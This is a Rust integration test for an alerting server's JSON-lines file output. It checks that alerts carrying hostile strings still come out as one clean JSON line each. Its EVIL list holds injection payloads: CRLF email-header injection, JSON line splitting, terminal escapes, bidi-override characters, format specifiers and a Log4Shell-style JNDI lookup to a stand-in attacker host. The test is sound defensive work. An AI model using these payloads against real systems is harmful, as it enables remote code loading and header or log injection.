//! A file of JSON lines stays that, whatever alerts are called and say.

use std::collections::BTreeSet;

use reqwest::StatusCode;
use serde_json::{Value as Json, json};
use tempfile::tempdir;

use crate::support::TestServer;
use crate::support::chain::{AT_ONCE, wait_long};

/// Texts that mean harm in one medium or another.
const EVIL: &[&str] = &[
    "x\r\nBcc: evil@example.com\r\n\r\nbody",
    "\"},{\"id\":\"other\"}\n{\"id\":\"other\"}",
    "\u{1b}[2J\u{1b}]0;evil\u{7}\u{9b}31m\u{7f}",
    "\u{202e}drow\u{2066}\u{2028}line\u{2029}\u{feff}",
    "\\\"\\n\\u0000{{ $value }}${jndi:ldap://evil.example/x} %s%n",
    "\0nul",
];

/// What a terminal or an editor might obey.
fn is_obeyed(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// Alerts that carry an evil text in each of their places.
fn alerts(number: usize, evil: &str) -> [Json; 4] {
    let n = |place: &str| format!("{number}-{place}");
    let alert = |name: &str, message: &str, label: &str, place: &str| {
        json!({ "name": name, "severity": "critical", "message": message, "details": { "evil": evil },
                "labels": { "n": n(place), "evil": label } })
    };
    let pushed = json!({ "labels": { "alertname": "pushed", "severity": "critical", "n": n("pushed") },
                         "annotations": { "summary": evil, "description": evil } });
    [
        alert(evil, "m", "l", "name"),
        alert("name", evil, "l", "message"),
        alert("name", "m", evil, "label"),
        json!([pushed]),
    ]
}

#[tokio::test]
async fn every_message_is_one_line_of_json() {
    let dir = tempdir().unwrap();
    let path = dir.path().join("alerts.jsonl");
    let target = format!(
        "[[target]]\nname = \"file\"\nfile = {{ path = '{}' }}\n",
        path.display()
    );
    let config =
        AT_ONCE.replace("[\"alertname\"]", "[\"alertname\", \"n\", \"evil\"]") + target.as_str();
    let server = TestServer::start_from(&config).await;
    let mut taken = 0;
    for (number, evil) in EVIL.iter().enumerate() {
        for alert in alerts(number, evil) {
            let path = match alert.is_array() {
                true => "/api/v2/alerts",
                false => "/api/v1/alerts",
            };
            let reply = server.post(path, &alert).await;
            match reply.status {
                StatusCode::CREATED | StatusCode::OK => taken += 1,
                // What no name or label may hold is refused as such.
                status => assert!(
                    [400, 422].contains(&status.as_u16()),
                    "{alert}: {}",
                    reply.body
                ),
            }
        }
    }
    assert!(taken >= 2 * (EVIL.len() - 1), "{taken}");
    wait_long(async || {
        let ledger = server.ledger("file").await;
        ledger.iter().filter(|one| one["state"] == "sent").count() == taken
    })
    .await;
    check_lines(&tokio::fs::read_to_string(&path).await.unwrap(), taken);
    server.stop().await;
}

fn check_lines(text: &str, count: usize) {
    let mut ids = BTreeSet::new();
    for line in text.lines() {
        assert!(!line.contains(is_obeyed), "{line:?}");
        let line: Json = serde_json::from_str(line).unwrap();
        let fields: Vec<&String> = line.as_object().unwrap().keys().collect();
        assert_eq!(fields, ["at", "id", "severity", "subject", "text"]);
        assert!(
            !line["subject"].as_str().unwrap().contains('\n'),
            "{line:?}"
        );
        ids.insert(line["id"].as_str().unwrap().to_owned());
    }
    assert_eq!((ids.len(), text.lines().count()), (count, count));
    assert!(text.ends_with('\n'));
}
